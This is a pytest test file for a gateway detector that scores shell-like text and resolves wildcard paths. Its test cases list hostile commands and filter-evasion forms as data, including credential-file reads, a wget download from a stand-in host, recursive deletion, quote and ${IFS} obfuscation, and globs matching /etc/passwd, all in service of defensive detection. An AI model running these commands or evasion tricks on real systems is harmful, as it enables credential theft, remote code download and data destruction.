import pytest

from gateway.inspection.shell.lexer import read_command
from gateway.inspection.shell.weight import Weight, glob_target, says_more, weigh


@pytest.mark.parametrize(
    ("text", "weight"),
    [
        ("hello world", Weight.NONE),
        ("time he came", Weight.NONE),
        ("more than that", Weight.NONE),
        ("ls 300 lexus", Weight.NONE),
        ("nc 8000 controller", Weight.NONE),
        ("date", Weight.COLUMN),
        ("sh", Weight.SHELL),
        ("ls", Weight.WORD),
        ("LS", Weight.NONE),
        ("more", Weight.NONE),
        ("curl", Weight.NONE),
        ("whoami", Weight.NAME),
        ("Get-Process", Weight.NAME),
        ("find /srv", Weight.PLAUSIBLE),
        ("sleep 5", Weight.PLAUSIBLE),
        ("sleep 8 hours", Weight.NONE),
        ("mail a@b.de", Weight.NONE),
        ("ip 10.0.0.1", Weight.NONE),
        ("echo hacked", Weight.WORD),
        ("ls -la", Weight.COMMAND),
        ("ps aux", Weight.COMMAND),
        ("net user", Weight.COMMAND),
        ("cat /etc/passwd", Weight.HOSTILE),
        ("cat<<<x", Weight.HOSTILE),
        ("wget evil.example", Weight.HOSTILE),
        ("sh -c id", Weight.HOSTILE),
        ("powershell whoami", Weight.HOSTILE),
        ("/bin/cat x.txt", Weight.HOSTILE),
        ("/bin/cat", Weight.NAME),
        ("w'h'oami", Weight.HOSTILE),
        ("cat${IFS}x", Weight.HOSTILE),
        ("/???/c?t", Weight.HOSTILE),
        ("cat /e?c/passwd", Weight.HOSTILE),
        ("sudo cat /etc/shadow", Weight.HOSTILE),
        ("nohup ifconfig", Weight.HOSTILE),
        ("rm -rf x", Weight.COMMAND),
        ("rm -rf /srv", Weight.HOSTILE),
        ("rundll32 x", Weight.HOSTILE),
        ("set /a 1+1", Weight.HOSTILE),
        ("A=1 cat /etc/passwd", Weight.HOSTILE),
        (">x cat /etc/passwd", Weight.HOSTILE),
        ("A=1 $A x", Weight.COMMAND),
        ("A=1", Weight.NONE),
        ("time", Weight.NONE),
        ("time flies", Weight.NONE),
        ("C:\\windows\\system32\\whoami.exe", Weight.NAME),
    ],
)
def test_weight_of_a_command(text: str, weight: Weight) -> None:
    assert weigh(read_command(text, 0))[0] is weight


def test_sentence_behind_a_command_is_told() -> None:
    assert weigh(read_command("curl -L http://x.example and then it fails", 0))[1]
    assert not weigh(read_command("curl -L http://x.example", 0))[1]
    assert says_more(read_command("cat /dog friendly", 0))
    assert not says_more(read_command("cat -n", 0))


@pytest.mark.parametrize(
    ("glob", "target"),
    [
        ("/???/c?t", "/bin/cat"),
        ("/bi[n]/bash", "/bin/bash"),
        ("/b[!x]n/id", "/bin/id"),
        ("/etc/pass*", "/etc/passwd"),
        ("/etc/**wd", "/etc/passwd"),
        ("etc/p?sswd", "/etc/passwd"),
        ("/etc/[]", None),
        ("/bi[a-z]/id", "/bin/id"),
        ("/[a--b]in/id", "/bin/id"),
        ("/[--a]in/id", None),
        ("/e[z-a]c/passwd", "/etc/passwd"),
        ("/cat?x=1", None),
        ("and/or?", None),
        ("/*/*", None),
        ("/" + "a?" * 64, None),
    ],
)
def test_pattern_stands_for_a_program_or_a_secret_file(glob: str, target: str | None) -> None:
    assert glob_target(glob) == target
